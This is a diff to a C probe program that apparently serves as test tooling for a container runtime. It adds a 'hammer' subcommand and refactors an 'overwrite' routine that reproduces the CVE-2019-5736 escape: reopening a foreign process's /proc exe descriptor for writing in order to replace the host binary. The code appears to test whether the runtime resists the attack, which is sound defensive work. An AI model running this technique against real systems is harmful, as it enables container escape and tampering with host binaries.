@@ -159,46 +159,79 @@ static int write_to(char **argv)
 	return 0;
 }
 
-/* overwrite STOP: until the file STOP exists, looks for a process whose exe is none of this container's own programs and
-   tries to write to it as the attackers of CVE-2019-5736 did: holds a descriptor of it read-only, and opens that for
-   writing again and again, also after the process has ended */
-static int overwrite(char **argv)
+/* Opens the exe of a process that is none of this container's own programs; below zero when there is none now. */
+static int open_foreign_exe(void)
 {
 	static const char *const own_paths[] = { "/bin/probe", "/bin/busybox" };
-	struct stat own[2];
+	struct stat own[2], exe;
 	for (int i = 0; i < 2; i++)
 		if (stat(own_paths[i], &own[i]))
-			return 1;
+			return -1;
+	for (int pid = 1; pid < 2000; pid++) {
+		char path[64];
+		snprintf(path, sizeof path, "/proc/%d/exe", pid);
+		int fd = open(path, O_RDONLY);
+		if (fd < 0)
+			continue;
+		int is_own = fstat(fd, &exe) != 0;
+		for (int i = 0; i < 2; i++)
+			is_own |= exe.st_dev == own[i].st_dev && exe.st_ino == own[i].st_ino;
+		if (!is_own)
+			return fd;
+		close(fd);
+	}
+	return -1;
+}
+
+/* overwrite STOP: until the file STOP exists, looks for such a process and tries to write to its exe as the attackers of
+   CVE-2019-5736 did: holds a descriptor of it read-only, and opens that for writing again and again, also after the
+   process has ended */
+static int overwrite(char **argv)
+{
 	puts("watching");
 	fflush(stdout);
 	while (access(argv[0], F_OK)) {
-		for (int pid = 1; pid < 2000; pid++) {
-			struct stat exe;
-			char path[64];
-			snprintf(path, sizeof path, "/proc/%d/exe", pid);
-			int fd = open(path, O_RDONLY);
-			if (fd < 0)
-				continue;
-			int is_own = fstat(fd, &exe) != 0;
-			for (int i = 0; i < 2; i++)
-				is_own |= exe.st_dev == own[i].st_dev && exe.st_ino == own[i].st_ino;
-			if (!is_own) {
-				puts("seen");
-				fflush(stdout);
-				snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
-				for (int i = 0; i < 5000; i++) {
-					int out = open(path, O_WRONLY);
-					if (out >= 0) {
-						if (write(out, "#!/bin/overwritten\n", 19) == 19)
-							puts("WRITTEN"), fflush(stdout);
-						close(out);
-						break;
-					}
-				}
+		char path[64];
+		int fd = open_foreign_exe();
+		if (fd < 0)
+			continue;
+		puts("seen");
+		fflush(stdout);
+		snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
+		for (int i = 0; i < 5000; i++) {
+			int out = open(path, O_WRONLY);
+			if (out >= 0) {
+				if (write(out, "#!/bin/overwritten\n", 19) == 19)
+					puts("WRITTEN"), fflush(stdout);
+				close(out);
+				break;
 			}
-			close(fd);
 		}
+		close(fd);
 	}
+	puts("done");
+	return 0;
+}
+
+/* hammer STOP: gets hold of such an exe once, says so, and then asks to write to it without end: even a request that is
+   refused may stand in the way of who wants to execute the file */
+static int hammer(char **argv)
+{
+	char path[64];
+	int fd = -1;
+	puts("watching");
+	fflush(stdout);
+	while (fd < 0 && access(argv[0], F_OK))
+		fd = open_foreign_exe();
+	puts("held");
+	fflush(stdout);
+	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
+	while (access(argv[0], F_OK))
+		for (int i = 0; i < 1000; i++) {
+			int out = open(path, O_WRONLY);
+			if (out >= 0)
+				close(out);
+		}
 	puts("done");
 	return 0;
 }
@@ -221,7 +254,7 @@ int main(int argc, char **argv)
 		{ "keyring", keyring },	    { "sched", sched },	       { "ioprio", ioprio }, { "mempolicy", mempolicy },
 		{ "personality", persona }, { "syscall", raw_syscall }, { "int80", int80 },   { "clock", show_clock },
 		{ "trap", trap },	    { "eat", eat },	       { "write", write_to }, { "overwrite", overwrite },
-		{ "swap", swap },
+		{ "swap", swap },	    { "hammer", hammer },
 	};
 	for (size_t i = 0; argc > 1 && i < sizeof uses / sizeof *uses; i++)
 		if (!strcmp(argv[1], uses[i].name))
